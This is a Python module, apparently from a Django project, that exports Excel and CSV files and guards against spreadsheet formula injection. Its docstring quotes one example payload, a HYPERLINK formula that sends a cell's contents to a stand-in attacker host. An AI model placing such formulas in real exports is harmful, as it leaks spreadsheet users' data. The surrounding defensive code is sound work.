"""The one way cchc writes Excel workbooks and CSV files: safe cells, real dates and numbers, print set-up.

- Every string goes in as a *text* cell, never a formula: a value a person typed that begins with ``=``,
  ``+``, ``-``, ``@``, a tab or a carriage return would otherwise be a live formula in Excel or LibreOffice
  (``=HYPERLINK("http://evil.example/?d="&A1,"Xem")``). The cell still reads exactly as typed.
- Dates are Excel dates shown dd/mm/yyyy; numbers are numbers with thousands grouping (Excel shows 1.800 on
  a Vietnamese system), so people can sort, filter and add them up.
- ``table_sheet`` gives every table a title, a header row, column widths, frozen headers, a filter and a
  print set-up: A4 landscape, fitted to the page width, the title and header repeated on every page, the
  print area the table itself.
- ``csv_cell`` neutralises the same values in CSV files (a leading apostrophe), as the audit CSV does.

Every Excel export builds its workbook through this module (``grep -rn openpyxl cchc`` finds only readers
elsewhere).
"""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.properties import PageSetupProperties

# What makes a spreadsheet treat a cell as a formula (or DDE command) when it begins the value.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
DATE_FORMAT = "DD/MM/YYYY"
DATETIME_FORMAT = "DD/MM/YYYY HH:MM"
INTEGER_FORMAT = "#,##0"
DECIMAL_FORMAT = "#,##0.##"
HEADER_FILL = "EDEDED"


def starts_like_formula(value: str) -> bool:
    return value[:1] in FORMULA_TRIGGERS


def csv_cell(value):
    """A CSV value that no spreadsheet runs: a string beginning like a formula gets a leading apostrophe."""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value


def csv_value(text: str) -> str:
    """What ``csv_cell`` wrote, read back: the apostrophe before a formula-like value comes off."""
    if text[:1] == "'" and starts_like_formula(text[1:]):
        return text[1:]
    return text


def set_cell(cell, value) -> None:
    """Write ``value`` to ``cell``: strings always as text, dates and numbers as such, with their display format."""
    if value is None:
        cell.value = None
    elif isinstance(value, bool):
        cell.value = value
    elif isinstance(value, dt.datetime):
        # Excel has no time zones: local wall-clock time, as people read it on the page.
        if value.tzinfo is not None:
            from django.utils import timezone

            value = timezone.localtime(value).replace(tzinfo=None)
        cell.value = value
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, dt.date):
        cell.value = value
        cell.number_format = DATE_FORMAT
    elif isinstance(value, int):
        cell.value = value
        cell.number_format = INTEGER_FORMAT
    elif isinstance(value, float | Decimal):
        number = float(value)
        cell.value = int(number) if number.is_integer() else number
        cell.number_format = INTEGER_FORMAT if number.is_integer() else DECIMAL_FORMAT
    else:
        text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
        cell.value = text
        # openpyxl makes any string starting with "=" a formula: force the text type whatever it begins with.
        cell.data_type = "s"


def write_row(sheet, row_number: int, values: Iterable, *, start_column: int = 1) -> list:
    cells = []
    for column, value in enumerate(values, start=start_column):
        cell = sheet.cell(row=row_number, column=column)
        set_cell(cell, value)
        cells.append(cell)
    return cells


def print_setup(sheet, *, last_column: int, last_row: int, title_rows: str | None = "1:2") -> None:
    """A4 landscape, one page wide (as many pages tall as needed), the header rows repeated on each page."""
    sheet.page_setup.orientation = "landscape"
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 0
    sheet.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
    sheet.print_options.gridLines = True
    sheet.page_margins.left = sheet.page_margins.right = 0.4
    sheet.page_margins.top = sheet.page_margins.bottom = 0.5
    if title_rows:
        sheet.print_title_rows = title_rows
    sheet.print_area = f"A1:{get_column_letter(max(last_column, 1))}{max(last_row, 1)}"


def table_sheet(sheet, title: str, header: Sequence[str], rows: Iterable[Sequence], widths: Sequence[int]) -> int:
    """Title in row 1, header in row 2, ``rows`` below; returns how many rows were written."""
    set_cell(sheet.cell(row=1, column=1), title)
    sheet["A1"].font = Font(bold=True, size=13)
    fill = PatternFill("solid", fgColor=HEADER_FILL)
    for cell in write_row(sheet, 2, header):
        cell.font = Font(bold=True)
        cell.fill = fill
        cell.alignment = Alignment(wrap_text=True, vertical="center", horizontal="center")
    count = 0
    top = Alignment(vertical="top", wrap_text=True)
    for count, row in enumerate(rows, start=1):
        for cell in write_row(sheet, count + 2, row):
            if cell.data_type == "s":
                cell.alignment = top
    for i, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(i)].width = width
    sheet.freeze_panes = "A3"
    if count:
        sheet.auto_filter.ref = f"A2:{get_column_letter(len(header))}{count + 2}"
    print_setup(sheet, last_column=len(header), last_row=count + 2)
    return count


def new_workbook() -> Workbook:
    return Workbook()


def workbook_bytes(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
